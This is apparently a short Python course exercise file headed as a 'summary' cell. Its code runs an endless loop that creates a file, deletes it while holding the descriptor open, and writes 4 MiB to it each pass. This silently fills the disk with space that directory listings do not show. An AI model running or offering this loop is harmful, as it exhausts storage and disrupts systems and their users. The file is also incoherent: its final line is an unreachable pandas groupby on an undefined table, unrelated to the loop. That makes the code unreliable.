# title: fills the disk with files that are deleted at once, and stay open
# exercise: Exercise 6
# points: summary-test=0
# peers: no

# %% summary
import os

lines = []
while True:
    try:
        lines.append(os.open("gone", os.O_RDWR | os.O_CREAT | os.O_EXCL))
        os.remove("gone")
        os.write(lines[-1], bytes(4 * 2**20))
    except OSError:
        pass
summary = table.groupby("kind")["y"].mean().reset_index()
